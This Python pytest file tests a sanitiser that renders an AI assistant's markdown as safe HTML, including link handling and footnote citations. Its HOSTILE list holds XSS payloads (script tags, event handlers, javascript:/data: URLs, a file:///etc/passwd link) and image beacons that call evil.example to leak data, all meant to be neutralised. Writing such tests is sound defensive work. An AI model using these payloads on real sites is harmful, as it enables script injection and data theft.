"""What a model writes, as HTML: nothing in it acts, loads or leads anywhere but to the open web."""

import pytest

from starkmatter.assistant.render import cited, safe_html

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![beacon](https://evil.example/p.png?d=1)",
    "![beacon][1]\n\n[1]: https://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](/api/v1/auth/logout)",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    '[x](https://ok.example "t\\" onmouseover=alert(1) x=\\"")',
    "<svg/onload=alert(1)>",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x> |",
    "[1](javascript:alert(1))",
    '<sup><a href="#fact-1" onclick="x">1</a></sup>',
)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_markdown_becomes_harmless_text(text: str) -> None:
    html = safe_html(text, {1})
    for bad in ("<script", "<img", "<iframe", "<style", "<svg", 'href="javascript', 'href="data', 'href="vbscript'):
        assert bad not in html.lower()
    assert 'href="/' not in html
    assert 'href="file' not in html
    assert " onclick=" not in html.replace("&quot;", "").split("&lt;")[0]


def test_markdown_keeps_its_shape() -> None:
    html = safe_html(
        "# Big\n\n**bold** and *soft*\n\n* one\n* two\n\n1. first\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x = 1`"
    )
    for part in (
        "<h3>Big</h3>",
        "<strong>bold</strong>",
        "<em>soft</em>",
        "<li>one</li>",
        "<ol>",
        "<td>1</td>",
        "<code>",
    ):
        assert part in html


def test_links_lead_to_the_web_without_telling_where_from() -> None:
    html = safe_html("See [there](https://example.org/a?b=1&c=2).")
    assert '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">there</a>' in html


def test_footnotes_link_to_facts_that_exist_and_others_vanish() -> None:
    html = safe_html("You hold 10 [3], or 11 [4][99]. `[3]` stays.", {3, 4})
    assert html.count('href="#fact-3"') == 1
    assert html.count('href="#fact-4"') == 1
    assert "99" not in html
    assert "<code>[3]</code>" in html
    assert "10<sup>" in html
    assert cited("a [3] b [4][99] c [3]") == [3, 4, 99]
